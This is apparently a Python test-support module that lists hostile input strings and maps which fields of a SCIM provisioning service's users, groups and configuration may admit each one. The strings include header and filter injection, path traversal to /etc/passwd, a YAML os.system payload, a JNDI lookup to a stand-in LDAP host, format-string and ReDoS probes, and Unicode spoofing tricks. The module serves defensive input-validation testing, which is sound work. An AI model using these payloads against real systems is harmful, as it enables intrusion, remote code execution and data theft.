"""Texts that break what takes them for more than text: headers, filters, paths, expressions, terminals, names.

Admission refuses them by name, or admits them on purpose: then the field and the reason stand here. What admits a
hostile text and does not stand here fails its test, until somebody has decided.
"""

from __future__ import annotations

from tests.support.fields import Field, all_fields

HOSTILE: dict[str, str] = {
    "a header's end": "a\r\nX-Evil: 1",
    "a filter's end": '") or (id pr) or ("',
    "a backslash at the end": "a\\",
    "NUL": "a\0b",
    "a terminal's control": "a\x1b[2J\x7f",
    "a control of eight bits": "a\x85\x9bb",
    "what folds into ASCII": "\u017f\ufb00\u0131\u0130\u212a",
    "text that turns round": "a\u202eb",
    "nothing to be seen": "a\u200bb",
    "blanks alone": "   ",
    "a wide blank": "\u3000",
    "a way out": "../../etc/passwd",
    "YAML": "!!python/object/apply:os.system ['id']",
    "JSON": '{"op": "remove", "path": "members"}',
    "a pattern that backtracks": "(a+)+$",
    "an expression that explodes": "[1,1].map(a,[a,a].map(b,[b,b].map(c,[c,c])))",
    "a placeholder": "${jndi:ldap://x.example/a}{{7*7}}%s%n",
    "half a character": "a\ud800b",
}

UNSEEN = (
    "a header's end",
    "NUL",
    "a terminal's control",
    "a control of eight bits",
    "text that turns round",
    "nothing to be seen",
    "blanks alone",
    "a wide blank",
)
"""What an identifier is refused for: a reviewer reads one thing, and the service another."""

BLANK = ("blanks alone", "a wide blank")
"""What no text may be: it is neither a value nor empty."""

EMAIL: dict[str, str] = {
    "a header's end in an address": "a\r\nBcc: x@x.example",
    "a tab in an address": "a\tb@x.example",
    "a vertical tab in an address": "a\x0bb@x.example",
    "NUL in an address": "a\0b@x.example",
    "a control of eight bits in an address": "a\x85b@x.example",
    "quotes in an address": '"a b"@x.example',
    "angle brackets in an address": "<a@x.example>",
    "two addresses": "a@x.example, b@x.example",
    "an address that turns round": "a\u202eb@x.example",
    "an address with nothing to be seen": "a\u200bb@x.example",
    "an address that folds into another": "\u212aelvin@x.example",
}
URL: dict[str, str] = {
    "a header's end in a URL": "https://x.example/a\r\nX-Evil: 1",
    "a blank in a URL": "https://x.example/a b",
    "a backslash in a URL": "https://x.example\\@y.example/",
    "NUL in a URL": "https://x.example/\0",
    "a control of eight bits in a URL": "https://x.example/\x85",
    "credentials in a URL": "https://a:b@x.example/",
    "a script": "javascript:alert(1)",
    "a file": "file:///etc/passwd",
    "a URL that turns round": "https://x.example/\u202e",
    "a host with nothing to be seen": "https://x\u200b.example/",
    "a host that folds into another": "https://\u212aelvin.example/",
    "a URL out of its path": "https://x.example/a/../../b",
    "a fragment": "https://x.example/#a",
}
PATH: dict[str, str] = {
    "a header's end in a path": 'emails[type eq "a\r\nb"].value',
    "NUL in a path": 'emails[type eq "a\0b"].value',
    "a filter's end in a path": 'emails[type eq "a" or id pr].value',
    "a path out of the schema": "../title",
    "a path that folds into another": "t\u0131tle",
    "a path that turns round": 'emails[type eq "a\u202eb"].value',
}

_PERSON = """
    name.formatted name.familyName name.givenName name.middleName name.honorificPrefix name.honorificSuffix displayName
    nickName title userType preferredLanguage enterprise.employeeNumber enterprise.costCenter enterprise.organization
    enterprise.division enterprise.department ws1b.adSourceAnchor ws1b.customAttribute1 ws1b.customAttribute2
    ws1b.customAttribute3 ws1b.customAttribute4 ws1b.customAttribute5 ws1b.distinguishedName ws1b.domain
    ws1b.userPrincipalName emails[].type emails[].display phoneNumbers[].value phoneNumbers[].type
    phoneNumbers[].display ims[].value ims[].type ims[].display photos[].type photos[].display addresses[].type
    addresses[].formatted addresses[].streetAddress addresses[].locality addresses[].region addresses[].postalCode
    entitlements[].value entitlements[].type entitlements[].display roles[].value roles[].type roles[].display
    x509Certificates[].type x509Certificates[].display
"""
_GROUP = "ws1b.description ws1b.distinguishedName ws1b.domain"
_COMPARED = "filters[].clauses[].value filters[].clauses[].values[]"


def _of(kind: str, names: str, *, below: tuple[str, ...] = ("",)) -> tuple[str, ...]:
    return tuple(f"{kind}.spec.{each}{name}" for each in below for name in names.split())


_BOTH = ("users.", "groups.")
_PATHS = _of("ProvisioningConfig", "filters[].clauses[].attribute matching[] mappings[].source", below=_BOTH)
_TARGETS = _of("ProvisioningConfig", "mappings[].target", below=_BOTH)
_CALLED = _of("ProvisioningConfig", "service.url service.auth.oauth2.tokenUrl service.proxy.url")
_SHOWN = _of("ScimUser", "profileUrl photos[].value")
_ADDRESSES = (
    *_of("ScimUser", "emails[].value"),
    *_of("ProvisioningConfig", "notifications[].email.to[] notifications[].email.from"),
)

SHAPED: dict[str, dict[str, str]] = {
    **dict.fromkeys(_ADDRESSES, EMAIL),
    **dict.fromkeys((*_CALLED, *_SHOWN), URL),
    **dict.fromkeys((*_PATHS, *_TARGETS), PATH),
}
"""Texts in the shape that the field asks for, by the field's name."""

ADMITTED: tuple[tuple[str, tuple[str, ...], tuple[str, ...]], ...] = (
    (
        "free text: it goes into JSON, whose strings escape everything",
        (*_of("ScimUser", _PERSON), *_of("ScimGroup", _GROUP)),
        tuple(name for name in HOSTILE if name not in BLANK),
    ),
    (
        "free text, the same for everybody",
        _of("ProvisioningConfig", "mappings[].constant mappings[].default", below=_BOTH),
        tuple(HOSTILE),
    ),
    ("compared here, and never sent", _of("ProvisioningConfig", _COMPARED, below=_BOTH), tuple(HOSTILE)),
    ("shown to people alone, escaped", _of("ProvisioningConfig", "filters[].title", below=_BOTH), tuple(HOSTILE)),
    (
        "compiled by the operator and by validate, which say what is wrong; evaluated at a bounded cost",
        (
            *_of("ProvisioningConfig", "expression mappings[].expression", below=_BOTH),
            *_of("ProvisioningConfig", "protected.users[].expression protected.groups[].expression"),
            *_of("ScimGroup", "members[].expression"),
        ),
        tuple(HOSTILE),
    ),
    (
        "an identifier may have any characters that can be seen; filters escape them",
        (
            *_of("ScimUser", "userName externalId"),
            *_of("ScimGroup", "displayName externalId"),
            *_of("ProvisioningConfig", "assignments[].roles[]"),
        ),
        tuple(name for name in HOSTILE if name not in UNSEEN),
    ),
    (
        "RFC 6749 section 3.3 allows these characters in a scope; they are percent-encoded in the form",
        _of("ProvisioningConfig", "service.auth.oauth2.scopes[]"),
        ("a way out", "a pattern that backtracks", "an expression that explodes", "a placeholder"),
    ),
    (
        "letters that fold into others are letters (RFC 6531): it is another address",
        _ADDRESSES,
        ("an address that folds into another",),
    ),
    ("whoever may write the URL may write any other path", _CALLED, ("a URL out of its path",)),
    (
        "kept as text at the service; nothing here opens it",
        _SHOWN,
        ("a URL out of its path", "credentials in a URL", "a fragment"),
    ),
    (
        "compared with the types of a user's own values; no attribute of a group has any",
        tuple(name for name in (*_PATHS, *_TARGETS) if ".users." in name),
        ("a path that turns round",),
    ),
)
"""Reason, fields, and which of the texts they admit."""


def admits(field: Field, name: str) -> bool:
    """Whether the field takes the text of that name on purpose."""
    return any(str(field) in fields and name in names for _, fields, names in ADMITTED)


def fitting(field: Field) -> dict[str, str]:
    """The texts that the field's length does not refuse already, and those in its own shape.

    Of a field that knows a few words one is enough: all others are refused alike.
    """
    if "enum" in field.schema:
        return {"a header's end": HOSTILE["a header's end"]}
    given = HOSTILE | SHAPED.get(str(field), {})
    return {name: text for name, text in given.items() if len(text) <= field.schema.get("maxLength", len(text))}


def texts() -> list[Field]:
    """Every field that holds a text."""
    return [field for field in all_fields() if field.is_text]
